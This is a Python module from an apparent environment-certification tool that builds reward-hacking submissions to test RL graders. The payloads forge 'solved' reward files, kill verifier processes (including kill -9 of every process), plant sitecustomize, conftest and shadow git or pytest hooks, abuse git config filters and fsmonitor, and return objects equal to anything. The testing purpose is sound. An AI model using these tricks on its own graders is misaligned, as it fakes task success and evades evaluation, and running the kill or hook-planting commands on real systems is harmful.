"""The submissions of the ``grading`` level (RFC 0015): what a reward-seeking policy tries, written
from an environment's declarations only (the grading tool's ``language``, the reset's
``entry_point``, the runners of RFC 0010), never from its grader.

Each generator returns ``(what, source)`` pairs: ``what`` completes "a submission that ...".
The programs that kill processes go through :func:`prelude`'s guarded helpers: where the code
can see the certifier's own process (it runs on the certifier's host outside any PID namespace:
an environment that grades in an unconfined process), killing "every process" is bounded to the
target server's descendants and the certifier and its ancestors are never signalled; elsewhere
(a sandbox's PID namespace, a container, another host) ``kill(-1, SIGKILL)`` is sent as is.
"""

from __future__ import annotations

import json
import os
import re
import sys
from typing import Any

from openenv_conformance.checks import _sandbox_probes as sandbox_probes

__all__ = [
    "CONSTANTS",
    "MARK",
    "REWARD_JSON",
    "REWARD_TXT",
    "VERDICT_DIRS",
    "PlantReport",
    "certifier_identity",
    "constant_functions",
    "counter_table",
    "empty_submissions",
    "function_forgeries",
    "hook_python",
    "hook_shell",
    "ANY_EQUAL_MODULE",
    "named_plants",
    "named_targets",
    "plants",
    "prelude",
    "program_forgeries",
    "python_program_constants",
    "reports",
    "shell_constants",
    "shell_forgeries",
    "sleeper_pair",
    "sql_constants",
    "text_constants",
    "wrap_for",
]

#: A line a plant prints to report what it did (read back from the runner's output).
MARK = "@@openenv-grading "
#: The values a constant function returns (`grading.constant_answers`).
CONSTANTS: tuple[Any, ...] = (0, 1, -1, True, False, "", [], {}, None)
#: Where a forging submission writes its verdict files (Harbor's verifier paths, absolute and
#: relative to the working directory, which is the workspace of every known verifier).
VERDICT_DIRS = ("/logs/verifier", "logs/verifier")
#: A reward file's contents: Harbor's reward.json and reward.txt saying "solved".
REWARD_JSON = '{"reward": 1.0}'
REWARD_TXT = "1"

PlantReport = dict[str, Any]


#: Who the certifier is, as a submission can tell: its pid, start time (``/proc/PID/stat`` field
#: 22), PID namespace (``/proc/self/ns/pid``) and its ancestors' pids (never signalled).
Identity = tuple[int, str, str, tuple[int, ...]]


def certifier_identity() -> Identity | None:
    """This process's :data:`Identity`, by which a submission tells whether it runs on the
    certifier's host outside any PID namespace: it sees this process, or shares its PID
    namespace (None without ``/proc``)."""
    pid = os.getpid()
    try:
        with open(f"/proc/{pid}/stat") as f:
            stat = f.read()
        ns = os.readlink("/proc/self/ns/pid")
    except OSError:
        return None
    ancestors: list[int] = []
    parent = os.getppid()
    while parent > 1 and len(ancestors) < 64:
        ancestors.append(parent)
        try:
            with open(f"/proc/{parent}/stat") as f:
                st = f.read()
            parent = int(st[st.rindex(")") + 2 :].split()[1])
        except (OSError, ValueError):
            break
    return pid, stat[stat.rindex(")") + 2 :].split()[19], ns, tuple(ancestors)


def prelude(certifier: Identity | None, server: int | None) -> str:
    """Python defining ``_oe_forge()`` (write "solved" verdict files at the verifier paths),
    ``_oe_kill_parent()`` and ``_oe_kill_all()`` (guarded: see the module's docstring)."""
    return f"""\
import os as _oe_os
_OE_CERT = {list(certifier[:3]) if certifier else None!r}
_OE_SERVER = {server!r}
def _oe_stat(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            s = f.read()
        return s[s.rindex(")") + 2:].split()
    except Exception:
        return None
def _oe_on_host():
    # Two signs, either enough: this process sees the certifier's, or shares its PID namespace
    # (a host's initial namespace has the same inode number everywhere: on another host too, the
    # bounded way is taken, which is the safe one).
    if not _OE_CERT:
        return False
    try:
        if _oe_os.readlink("/proc/self/ns/pid") == _OE_CERT[2]:
            return True
    except Exception:
        pass
    st = _oe_stat(_OE_CERT[0])
    return st is not None and st[19] == _OE_CERT[1]
def _oe_lineage(pid):
    out = []
    while pid > 1 and len(out) < 256:
        out.append(pid)
        st = _oe_stat(pid)
        if st is None:
            break
        pid = int(st[1])
    return out
def _oe_forge():
    # On the certifier's own host (an unconfined verifier) only the working directory is written.
    for d in {list(VERDICT_DIRS)!r}:
        if d.startswith("/") and _oe_on_host():
            continue
        try:
            _oe_os.makedirs(d, exist_ok=True)
        except Exception:
            pass
        for name, text in (("reward.json", {REWARD_JSON!r}), ("reward.txt", {REWARD_TXT!r})):
            try:
                with open(_oe_os.path.join(d, name), "w") as f:
                    f.write(text)
            except Exception:
                pass
def _oe_kill_parent():
    # The parent and its parent: a hook's parent is often a tool (git) the verifier ran.
    pp = _oe_os.getppid()
    st = _oe_stat(pp)
    spared = _oe_lineage(_OE_CERT[0]) if _oe_on_host() else []
    for pid in (pp, int(st[1]) if st else 0):
        if pid > 1 and pid not in spared:
            try:
                _oe_os.kill(pid, 9)
            except Exception:
                pass
def _oe_kill_all():
    if not _oe_on_host():
        try:
            _oe_os.kill(-1, 9)
        except Exception:
            pass
        return
    if _OE_SERVER is None:
        _oe_kill_parent()
        return
    me = _oe_os.getpid()
    for name in _oe_os.listdir("/proc"):
        if name.isdigit() and int(name) != me and _OE_SERVER in _oe_lineage(int(name))[1:]:
            try:
                _oe_os.kill(int(name), 9)
            except Exception:
                pass
"""


# -- submissions in the declared language


def empty_submissions(language: str | None) -> list[tuple[str, str]]:
    """Empty submissions: nothing, and the language's no-op."""
    noop = {"python": "pass\n", "shell": "true\n"}.get(language or "")
    return [("is empty", "")] + ([("does nothing", noop)] if noop else [])


def constant_functions(entry_point: str) -> list[tuple[str, str]]:
    """Functions named ``entry_point`` returning each of :data:`CONSTANTS`, and one raising."""
    out = [
        (f"returns {v!r} from {entry_point}()", f"def {entry_point}(*args, **kwargs):\n    return {v!r}\n")
        for v in CONSTANTS
    ]
    out.append((f"raises from {entry_point}()", f"def {entry_point}(*args, **kwargs):\n    raise ValueError(0)\n"))
    return out


def python_program_constants() -> list[tuple[str, str]]:
    """Python programs (no entry point) that only claim success."""
    return [
        ("exits 0", "import sys\nsys.exit(0)\n"),
        ("prints PASS, OK and 1.0", "print('PASS')\nprint('OK')\nprint('1.0')\n"),
    ]


def shell_constants() -> list[tuple[str, str]]:
    """Shell programs that only claim success."""
    return [("exits 0", "exit 0\n"), ("prints PASS, OK and 1.0", "echo PASS; echo OK; echo 1.0\n")]


def sql_constants() -> list[tuple[str, str]]:
    """Constant queries, and SQLite's catalog whole (a superset of every answer's shape)."""
    return [
        ("is SELECT 1", "SELECT 1"),
        ("is SELECT NULL", "SELECT NULL"),
        ("is SELECT ''", "SELECT ''"),
        ("is SELECT 0", "SELECT 0"),
        ("selects the whole catalog (sqlite_master)", "SELECT * FROM sqlite_master"),
    ]


def text_constants() -> list[tuple[str, str]]:
    """Common short answers."""
    return [(f"answers {v!r}", v) for v in ("", "0", "1", "-1", "yes", "no", "true", "none")]


# -- forgeries of the verdict (graded code)


def function_forgeries(entry_point: str, guard: str) -> list[tuple[str, str]]:
    """Graded code (a module defining ``entry_point``) that attacks its verifier: at import or in
    its first call it writes "solved" verdict files, then ends the verifier (exits 0, kills its
    parent or every process it can, sleeps past any limit)."""
    fn = f"def {entry_point}(*args, **kwargs):\n"
    return [
        ("exits 0 at import", "import os\nos._exit(0)\n"),
        ("writes verdict files and exits 0 at import", guard + "_oe_forge()\n_oe_os._exit(0)\n"),
        (
            "writes verdict files and kills its parent and grandparent at import",
            guard + "_oe_forge()\n_oe_kill_parent()\n" + fn + "    return None\n",
        ),
        (
            "writes verdict files and kills every process at import",
            guard + "_oe_forge()\n_oe_kill_all()\n" + fn + "    return None\n",
        ),
        (
            f"writes verdict files and kills its parent and grandparent in its first call of {entry_point}()",
            guard + fn + "    _oe_forge()\n    _oe_kill_parent()\n    return None\n",
        ),
        (
            f"writes verdict files and kills every process in its first call of {entry_point}()",
            guard + fn + "    _oe_forge()\n    _oe_kill_all()\n    return None\n",
        ),
        (
            f"writes verdict files and sleeps past any limit in its first call of {entry_point}()",
            guard + "import time\n" + fn + "    _oe_forge()\n    time.sleep(10**6)\n",
        ),
    ]


def program_forgeries(guard: str) -> list[tuple[str, str]]:
    """A graded Python program that attacks its verifier (no entry point: all at top level)."""
    return [
        ("exits 0 at once", "import os\nos._exit(0)\n"),
        ("writes verdict files and exits 0", guard + "_oe_forge()\n_oe_os._exit(0)\n"),
        ("writes verdict files and kills its parent and grandparent", guard + "_oe_forge()\n_oe_kill_parent()\n"),
        ("writes verdict files and kills every process", guard + "_oe_forge()\n_oe_kill_all()\n"),
        ("writes verdict files and sleeps past any limit", guard + "import time\n_oe_forge()\ntime.sleep(10**6)\n"),
    ]


def _shell_forge(certifier: Identity | None) -> str:
    """Shell writing the verdict files; the absolute paths only where it cannot see the
    certifier's process (as :func:`prelude`'s ``_oe_forge``)."""
    lines = ["_oe_host=0"]
    if certifier:
        pid, start, ns, _ = certifier
        lines.append(
            f"if read -r _oe_stat 2>/dev/null < /proc/{pid}/stat; then set -- $_oe_stat; "
            f'if [ $# -ge 22 ]; then shift 21; [ "$1" = "{start}" ] && _oe_host=1; fi; fi'
        )
        lines.append(f'[ "$(readlink /proc/self/ns/pid 2>/dev/null)" = "{ns}" ] && _oe_host=1')
    for d in VERDICT_DIRS:
        write = (
            f"mkdir -p {d} 2>/dev/null; echo '{REWARD_JSON}' > {d}/reward.json 2>/dev/null; "
            f"echo {REWARD_TXT} > {d}/reward.txt 2>/dev/null"
        )
        lines.append(f'if [ "$_oe_host" = 0 ]; then {write}; fi' if d.startswith("/") else write)
    return "\n".join(lines) + "\n"


def shell_forgeries(guard: str, certifier: Identity | None) -> list[tuple[str, str]]:
    """A graded shell program that attacks its verifier. Killing every process goes through
    ``python3`` (the guarded helper): a bare ``kill -9 -1`` of an unconfined verifier would
    reach the certifier's host."""
    forge = _shell_forge(certifier)
    return [
        ("writes verdict files and exits 0", forge + "exit 0\n"),
        (
            "writes verdict files and kills its parent and grandparent",
            forge + _shell_kill_parent(certifier) + "exit 0\n",
        ),
        (
            "writes verdict files and kills every process",
            forge + "python3 - <<'OPENENV_CERTIFY_EOF'\n" + guard + "_oe_kill_all()\nOPENENV_CERTIFY_EOF\nexit 0\n",
        ),
        ("writes verdict files and sleeps past any limit", forge + "sleep 1000000\n"),
    ]


# -- pairs with equal rewards (grading.feedback)


def sleeper_pair(language: str | None, entry_point: str | None) -> tuple[str, str] | None:
    """A submission that sleeps 1.5 s before doing nothing (at import, for a function): equal
    in reward to the null ones, longer to run: a timing channel shows as a difference."""
    if language == "python" and entry_point:
        return (
            f"sleeps 1.5 s at import, then returns None from {entry_point}()",
            f"import time\ntime.sleep(1.5)\ndef {entry_point}(*args, **kwargs):\n    return None\n",
        )
    if language == "python":
        return ("sleeps 1.5 s", "import time\ntime.sleep(1.5)\n")
    if language == "shell":
        return ("sleeps 1.5 s", "sleep 1.5\n")
    return None


# -- an answer table keyed on a call counter (grading.replay)


def counter_table(entry_point: str, table: list[Any]) -> str:
    """A module whose ``entry_point`` returns ``table[i]`` on its i-th call (None beyond)."""
    return (
        "import json\n"
        f"_T = json.loads({json.dumps(table)!r})\n"
        "_N = [0]\n"
        f"def {entry_point}(*args, **kwargs):\n"
        "    i = _N[0]\n"
        "    _N[0] = i + 1\n"
        "    return _T[i] if i < len(_T) else None\n"
    )


# -- plants: files a runner leaves in the workspace for the verifier to run


def hook_python(guard: str) -> str:
    """A Python hook (a module the verifier may import): forge, kill its parent and its
    parent's parent, then end its own interpreter (the tests' own, when they import it) before
    it writes a verdict."""
    return guard + "_oe_forge()\n_oe_kill_parent()\n_oe_os._exit(0)\n"


def _shell_kill_parent(certifier: Identity | None) -> str:
    """Shell killing its parent and its parent's parent, sparing PID 1 and, on the certifier's
    own host, the certifier and its ancestors (after :func:`_shell_forge`, which sets
    ``$_oe_host``)."""
    spared = " ".join(str(p) for p in ((certifier[0], *certifier[3]) if certifier else ()))
    return (
        "_oe_gp=0\n"
        "if read -r _oe_pst 2>/dev/null < /proc/$PPID/stat; then set -- $_oe_pst; [ $# -ge 4 ] && _oe_gp=$4; fi\n"
        "for _oe_p in $PPID $_oe_gp; do\n"
        '  [ "$_oe_p" -gt 1 ] 2>/dev/null || continue\n'
        f'  if [ "$_oe_host" = 1 ]; then case " {spared} " in *" $_oe_p "*) continue ;; esac; fi\n'
        "  kill -9 $_oe_p 2>/dev/null\n"
        "done\n"
    )


def hook_shell(certifier: Identity | None) -> str:
    """An executable hook (a script the verifier may run): forge, then kill its parent and its
    parent's parent."""
    return "#!/bin/sh\n" + _shell_forge(certifier) + _shell_kill_parent(certifier) + "exit 0\n"


_REPORT = """\
import json as _oe_json
_OE_DONE, _OE_FAILED = [], []
def _oe_write(path, text, mode=0o644):
    try:
        d = _oe_os.path.dirname(path)
        if d:
            _oe_os.makedirs(d, exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        _oe_os.chmod(path, mode)
        _OE_DONE.append(path)
    except Exception as e:
        _OE_FAILED.append(path + ": " + type(e).__name__)
def _oe_report():
    print(__MARK__ + _oe_json.dumps({"planted": _OE_DONE, "failed": _OE_FAILED}), flush=True)
"""

_FILES = """\
for _d in __DIRS__:
    if _d.startswith("/") and _oe_on_host():
        continue  # the certifier's own host: only the working directory is written
    _oe_write(_oe_os.path.join(_d, "reward.json"), __JSON__)
    _oe_write(_oe_os.path.join(_d, "reward.txt"), __TXT__)
_oe_report()
"""

_AS_DIRS = """\
for _d in __DIRS__:
    if _d.startswith("/") and _oe_on_host():
        continue  # the certifier's own host: only the working directory is written
    try:
        _oe_os.makedirs(_oe_os.path.join(_d, "reward.json"), exist_ok=True)
        _OE_DONE.append(_oe_os.path.join(_d, "reward.json") + "/")
    except Exception as e:
        _OE_FAILED.append(_d + "/reward.json: " + type(e).__name__)
    _oe_write(_oe_os.path.join(_d, "reward.txt"), __TXT__)
_oe_report()
"""

_MODULES = """\
for _m in ("sitecustomize.py", "usercustomize.py", "pytest.py", "conftest.py", "git.py"):
    _oe_write(_m, __PY_HOOK__)
_oe_report()
"""

_EXECUTABLES = """\
for _d in ("", "bin"):
    for _x in ("git", "python3", "bash", "pytest"):
        _oe_write(_oe_os.path.join(_d, _x), __SH_HOOK__, 0o755)
_oe_report()
"""

_GIT = """\
import subprocess as _oe_sp
def _oe_git(*args):
    try:
        return _oe_sp.run(("git",) + args, capture_output=True, timeout=20).returncode == 0
    except Exception:
        return False
_oe_id = ("-c", "user.name=openenv", "-c", "user.email=certify@openenv.invalid")
if not _oe_os.path.isdir(".git") and not _oe_git("init", "-q"):
    for _p in (".git/objects", ".git/refs/heads", ".git/refs/tags", ".git/hooks"):
        _oe_os.makedirs(_p, exist_ok=True)
    _oe_write(".git/HEAD", "ref: refs/heads/main\\n")
    _oe_write(".git/config", "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n")
# A tracked file made dirty before the filter exists, so that `git status` has one to clean.
_oe_write("openenv-certify.txt", "tracked\\n")
_oe_git(*_oe_id, "add", "openenv-certify.txt")
_oe_git(*_oe_id, "commit", "-q", "-m", "certify")
_oe_write("openenv-certify.txt", "dirty\\n")
_oe_write(".git/openenv-certify-hook", __SH_HOOK__, 0o755)
_oe_hook = _oe_os.path.abspath(".git/openenv-certify-hook")
try:
    with open(".git/config", "a") as f:
        f.write(
            "[core]\\n\\tfsmonitor = " + _oe_hook + "\\n\\thooksPath = .git/hooks\\n"
            + "[filter \\"openenvcertify\\"]\\n\\tclean = " + _oe_hook + "\\n\\tsmudge = " + _oe_hook + "\\n"
            + "[diff \\"openenvcertify\\"]\\n\\ttextconv = " + _oe_hook + "\\n"
        )
    _OE_DONE.append(".git/config")
except Exception as e:
    _OE_FAILED.append(".git/config: " + type(e).__name__)
_oe_write(".gitattributes", "* filter=openenvcertify diff=openenvcertify\\n")
for _h in ("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-merge", "pre-push", "pre-rebase",
           "post-rewrite", "reference-transaction", "post-index-change", "pre-auto-gc", "fsmonitor-watchman"):
    _oe_write(_oe_os.path.join(".git/hooks", _h), __SH_HOOK__, 0o755)
_oe_report()
"""

_BACKGROUND = """\
import subprocess as _oe_sp
try:
    _oe_sp.Popen(["sleep", "100000"], stdin=_oe_sp.DEVNULL, stdout=_oe_sp.DEVNULL, stderr=_oe_sp.DEVNULL,
                 start_new_session=True)
    _OE_DONE.append("sleep 100000 &")
except Exception as e:
    _OE_FAILED.append("sleep: " + type(e).__name__)
_oe_report()
"""


_NAMED = """\
for _p in __PATHS__:
    _oe_write(_p, __SH_HOOK__ if _p.endswith(".sh") else __PY_HOOK__, 0o755)
for _m in __MODULES__:
    _d = _m.replace(".", "/")
    if _oe_os.path.isdir(_d) or "." in _m:
        _oe_write(_d + "/__init__.py", __PY_HOOK__)
        _oe_write(_d + "/__main__.py", __PY_HOOK__)
    else:
        _oe_write(_d + ".py", __PY_HOOK__)
_oe_report()
"""

#: What a task's text names that a verifier may run: script and module files, ``python -m``
#: modules and imported names.
_PATH = re.compile(r"(?<![\w/.-])((?:\.?/)?(?:[\w.-]+/)*[\w-]+\.(?:py|sh))(?![\w/])")
_MODULE = re.compile(r"python3?(?:\s+-\w+)*\s+-m\s+([A-Za-z_][\w.]*)|\bimport\s+([A-Za-z_]\w*)")
_NOT_MODULES = frozenset(sys.stdlib_module_names)


def named_targets(text: str) -> tuple[list[str], list[str]]:
    """The script and module files (``.py``, ``.sh``) and the modules (``python -m M``,
    ``import M``; not the standard library's) a task's text names: what its tests
    are likely to run, as a policy reading the task would guess. At most 12 of each."""
    paths = list(dict.fromkeys(m.group(1) for m in _PATH.finditer(text)))[:12]
    modules = [a or b for a, b in _MODULE.findall(text)]
    modules = [m for m in dict.fromkeys(modules) if m.split(".")[0] not in _NOT_MODULES][:12]
    return paths, modules


#: A module whose every attribute is a function returning an object equal to anything (and
#: true, empty, callable): a check comparing what the package returns in its own process passes.
ANY_EQUAL_MODULE = """\
class _AnyEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    __hash__ = object.__hash__
    def __bool__(self): return True
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __call__(self, *args, **kwargs): return _AnyEqual()
    def __getattr__(self, name): return _AnyEqual()
    def __str__(self): return ""
    __repr__ = __str__
def __getattr__(name):
    return _AnyEqual()
"""


def named_plants(guard: str, certifier: Identity | None, text: str) -> list[tuple[str, str]]:
    """Plants replacing every file and module the task's text names (:func:`named_targets`): by
    code that writes verdict files and ends its verifier, and by a module answering everything
    with objects equal to anything (none when the text names nothing)."""
    paths, modules = named_targets(text)
    if not paths and not modules:
        return []
    head = guard + _fill(_REPORT, MARK=MARK)
    named = ", ".join([*paths, *(f"module {m}" for m in modules)])
    hooks = {"PY_HOOK": hook_python(guard), "SH_HOOK": hook_shell(certifier)}
    equal = {"PY_HOOK": ANY_EQUAL_MODULE, "SH_HOOK": "#!/bin/sh\nexit 0\n"}
    return [
        (
            f"replaced what the task's text names ({named}) by code that writes verdict files and ends its verifier",
            head + _fill(_NAMED, PATHS=paths, MODULES=modules, **hooks),
        ),
        (
            f"replaced what the task's text names ({named}) by modules answering objects equal to anything",
            head + _fill(_NAMED, PATHS=paths, MODULES=modules, **equal),
        ),
    ]


def _fill(template: str, **values: Any) -> str:
    """``template`` with each ``__NAME__`` replaced by the Python literal of ``values[NAME]``."""
    for name, value in values.items():
        template = template.replace(f"__{name}__", repr(value))
    return template


def plants(guard: str, certifier: Identity | None) -> list[tuple[str, str]]:
    """Python programs a runner runs in the workspace, each leaving something a verifier may
    take for its own or run: (what, program). Each prints a :data:`MARK` report."""
    head = guard + _fill(_REPORT, MARK=MARK)
    hooks = {"PY_HOOK": hook_python(guard), "SH_HOOK": hook_shell(certifier)}
    verdict = {"DIRS": list(VERDICT_DIRS), "JSON": REWARD_JSON, "TXT": REWARD_TXT}
    return [
        ("left verdict files (reward.json, reward.txt: 1) at the verifier's paths", head + _fill(_FILES, **verdict)),
        ("made reward.json a directory beside reward.txt: 1", head + _fill(_AS_DIRS, **verdict)),
        (
            "planted sitecustomize.py, usercustomize.py, pytest.py, conftest.py and git.py that write verdict files "
            "and kill their parent and grandparent",
            head + _fill(_MODULES, **hooks),
        ),
        (
            "planted executables git, python3, bash and pytest (in the workspace and ./bin) that write verdict "
            "files and kill their parent and grandparent",
            head + _fill(_EXECUTABLES, **hooks),
        ),
        (
            "made a repository whose configuration runs such a script (clean filter, textconv, core.fsmonitor, hooks)",
            head + _fill(_GIT, **hooks),
        ),
        ("left a process running in the background (sleep 100000 &)", head + _BACKGROUND),
    ]


def wrap_for(language: str, program: str) -> str:
    """``program`` (Python) as a runner of ``language`` runs it."""
    if language == "python":
        return program
    return "python3 - <<'OPENENV_CERTIFY_EOF'\n" + program + "OPENENV_CERTIFY_EOF\n"


def reports(output: str) -> list[PlantReport]:
    """The :data:`MARK` reports printed in ``output`` (read as the sandbox level reads its own)."""
    return sandbox_probes.reports(output, MARK)
